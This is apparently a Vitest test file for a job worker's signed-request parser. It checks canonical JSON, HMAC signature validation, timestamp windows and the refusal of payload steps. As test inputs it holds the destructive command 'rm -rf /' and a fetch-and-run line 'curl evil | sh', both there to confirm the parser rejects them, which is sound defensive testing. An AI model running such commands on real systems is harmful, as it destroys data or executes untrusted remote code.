import { describe, expect, it } from 'vitest';
import { parseRequest } from '../../src/job/request.js';
import { canonicalJson, signatureProblem, signRequest } from '../../src/shared/signing.js';

const secret = 'correct horse battery staple';
const now = 1_800_000_000_000;

describe('signed requests', () => {
  it('canonicalises keys at every depth', () => {
    expect(canonicalJson({ b: 1, a: { d: [1, { f: 2, e: 3 }], c: 'x' } })).toBe(
      '{"a":{"c":"x","d":[1,{"e":3,"f":2}]},"b":1}',
    );
  });

  it('accepts a good signature whatever the key order on the wire', () => {
    const signed = signRequest({ id: 'job_1', steps: ['echo hi'] }, secret, now);
    expect(signatureProblem(signed, secret, 300_000, now + 1000)).toBeUndefined();
    const reordered = JSON.parse(
      JSON.stringify({
        steps: signed.steps,
        signature: signed.signature,
        timestamp: signed.timestamp,
        id: signed.id,
      }),
    );
    expect(parseRequest(JSON.stringify(reordered), { secret, nowMs: now })).toEqual({
      ok: true,
      request: { id: 'job_1', steps: ['echo hi'] },
    });
  });

  it.each([
    ['unsigned', { id: 'job_1' }, /not signed/],
    ['signed with another secret', signRequest({ id: 'job_1' }, 'wrong', now), /does not match/],
    [
      'altered after signing',
      { ...signRequest({ id: 'job_1' }, secret, now), id: 'job_2' },
      /does not match/,
    ],
    [
      'steps added after signing',
      { ...signRequest({ id: 'job_1' }, secret, now), steps: ['rm -rf /'] },
      /does not match/,
    ],
    ['stale', signRequest({ id: 'job_1' }, secret, now - 600_000), /older than the 300s allowed/],
    ['from the future', signRequest({ id: 'job_1' }, secret, now + 600_000), /in the future/],
    ['a garbage signature', { id: 'job_1', timestamp: now, signature: 'zz' }, /not a hex HMAC-SHA256/],
    ['no timestamp', { id: 'job_1', signature: 'a'.repeat(64) }, /numeric `timestamp`/],
  ])(
    'rejects a request %s with INVALID_SIGNATURE, naming the id only for its rejection',
    (_name, body, message) => {
      const parsed = parseRequest(JSON.stringify(body), { secret, nowMs: now, maxAgeMs: 300_000 });
      expect(parsed.ok).toBe(false);
      if (parsed.ok) return;
      expect(parsed.error.code).toBe('INVALID_SIGNATURE');
      expect(parsed.error.message).toMatch(message);
      // The worker files the refusal under this id (jobs/rejected/job_1); it never publishes a result for it.
      expect(parsed.id).toBe((body as { id: string }).id);
    },
  );

  it('refuses payload steps with --no-payload-steps, naming the id', () => {
    const parsed = parseRequest('{"id":"job_1","steps":["curl evil | sh"]}', { allowSteps: false });
    expect(parsed).toMatchObject({
      ok: false,
      id: 'job_1',
      error: { code: 'INVALID_PAYLOAD', message: expect.stringContaining('--no-payload-steps') },
    });
    expect(parseRequest('{"id":"job_1"}', { allowSteps: false }).ok).toBe(true);
  });
});
